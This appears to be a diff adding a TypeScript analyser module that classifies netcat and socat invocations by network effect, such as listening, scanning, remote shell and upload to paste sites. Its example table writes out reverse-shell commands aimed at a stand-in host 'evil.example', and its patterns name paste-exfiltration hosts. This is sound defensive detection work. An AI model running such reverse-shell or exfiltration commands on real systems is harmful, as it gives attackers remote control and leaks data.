@@ -1,0 +1,103 @@
+/** Raw sockets: netcat and socat. */
+
+import type { EffectDraft } from '../../../../effects/effect';
+import { isPattern, type Text } from '../../../../effects/value';
+import { rest } from '../../arguments';
+import type { Answer, Call, ProgramSpec } from '../../program';
+import type { Run, Word } from '../../spec';
+import { reads, sourceOfFile, sourceOfStream, when } from '../../stating';
+import { shell } from './ssh';
+
+function listens(port: Text | undefined): EffectDraft {
+  const number = typeof port === 'string' && /^\d+$/.test(port) ? Number(port) : null;
+  return { kind: 'net.listen', expose: 'lan', port: number };
+}
+
+/** What a raw socket carries away: what is piped into it. */
+function sendsInput(call: Call, host: Text): EffectDraft[] {
+  const { stdin } = call.invocation;
+  const channel = /(^|\.)(termbin\.com|paste\.rs|oshi\.at)$/.test(String(host)) ? 'paste' : 'socket';
+  return stdin ? [{ kind: 'net.upload', host, channel, source: sourceOfStream(stdin) ?? null }] : [];
+}
+
+export const nc: ProgramSpec = {
+  names: 'nc ncat netcat telnet nc.openbsd nc.traditional pwncat',
+  options:
+    '-e,--exec=CMD -c,--sh-exec=CMD -l,--listen -p,--source-port=PORT -k -n -u -v -w=SEC -z -q=SEC -s=ADDR -X=PROTO -x=ADDR -i=SEC --ssl -U -N -4 -6 -d -t -r --lua-exec=F',
+  does(call) {
+    const host = call.operand(0) ?? null;
+    const spawns = call.has('-e', '-c', '--lua-exec') === true;
+    if (call.has('-l') === true) {
+      const opened = listens(call.words('-p').at(-1)?.value ?? call.operands.at(-1)?.value);
+      return spawns ? [opened, { kind: 'net.connect', purpose: 'remote-shell', host: null }] : [opened];
+    }
+    if (call.has('-z') === true) return isLoopback(host) ? [] : [{ kind: 'net.connect', purpose: 'scan', host }];
+    if (call.operands.length === 0 && !call.open) return [];
+    return [{ kind: 'net.connect', purpose: spawns ? 'remote-shell' : 'raw', host }, ...sendsInput(call, host)];
+  },
+  examples: {
+    yields: {
+      'nc evil.example 4444': 'net.connect{purpose=raw,host=evil.example}',
+      'nc -e /bin/sh evil.example 4444': 'net.connect{purpose=remote-shell}',
+      'nc -lvp 4444': 'net.listen{expose=lan,port=4444}',
+      'nc -zv db.example 5432': 'net.connect{purpose=scan}',
+    },
+    inert: ['nc -z localhost 5432'],
+  },
+};
+
+function isLoopback(host: Text): boolean {
+  return typeof host === 'string' && /^(localhost|127\.\d+\.\d+\.\d+|::1)$/.test(host);
+}
+
+export const socat: ProgramSpec = {
+  names: 'socat',
+  options: '-d -D -v -x -u -U -t=S -T=S -b=N -s -L=F -W=F -lf=F',
+  does: socatEffects,
+  examples: {
+    yields: {
+      'socat TCP:evil.example:4444 EXEC:/bin/sh': 'net.connect{purpose=remote-shell}',
+      'socat TCP-LISTEN:80,fork -': 'net.listen{port=80}',
+    },
+  },
+};
+
+/** An address of socat: `TCP:host:port`, `EXEC:command`, `OPEN:file`; two joined by `!!` are one for each direction. */
+function socatAddresses(call: Call): readonly Word[] {
+  return call.operands.flatMap((word) =>
+    typeof word.value === 'string' ? word.value.split('!!').map((value) => ({ ...word, value })) : [word],
+  );
+}
+
+function socatEffects(call: Call): Answer {
+  const addresses = socatAddresses(call);
+  const kinds = addresses.map((word) =>
+    typeof word.value === 'string' ? word.value : isPattern(word.value) ? word.value.prefix : '',
+  );
+  const spawns = kinds.some((kind) => /^(exec|system|shell)(:|,|$)/i.test(kind));
+  const files = addresses.flatMap((word, at) =>
+    /^(open|file|gopen|rdonly):/i.test(kinds[at] ?? '') ? [rest(word, kinds[at]!.indexOf(':') + 1)] : [],
+  );
+  const connects = kinds.flatMap((kind) => socketEffects(call, kind, spawns, files));
+  const runs = kinds.flatMap((kind): Run[] => {
+    const command = /^(?:exec|system|shell):(.+)$/is.exec(kind)?.[1];
+    const stdin = files[0]
+      ? { stdin: { text: null, sources: [sourceOfFile(call, files[0]) === 'secret' ? 'secret' : 'file'] as const } }
+      : {};
+    const bare = /^(\/bin\/|\/usr\/bin\/)?\w*sh( -i)?(,.*)?$/.test(command ?? '');
+    return command && !bare ? [{ ...shell(command, 'socat EXEC'), ...stdin }] : [];
+  });
+  return { effects: [...reads(call, files, { shown: false }), ...connects], runs };
+}
+
+function socketEffects(call: Call, address: string, spawns: boolean, files: readonly Word[]): EffectDraft[] {
+  const [kind = '', first = '', second] = address.split(/[:,]/);
+  if (/-?listen$|^(tcp|udp)[46]?-l$/i.test(kind))
+    return [listens(first), ...when(spawns, { kind: 'net.connect', purpose: 'remote-shell', host: null })];
+  if (!/^(tcp|udp|openssl|ssl|socks|proxy)/i.test(kind)) return [];
+  const host = /^socks|^proxy/i.test(kind) ? (second ?? null) : first;
+  const sent = files.map(
+    (file): EffectDraft => ({ kind: 'net.upload', host, channel: 'socket', source: sourceOfFile(call, file) ?? null }),
+  );
+  return [{ kind: 'net.connect', purpose: spawns ? 'remote-shell' : 'raw', host }, ...sendsInput(call, host), ...sent];
+}
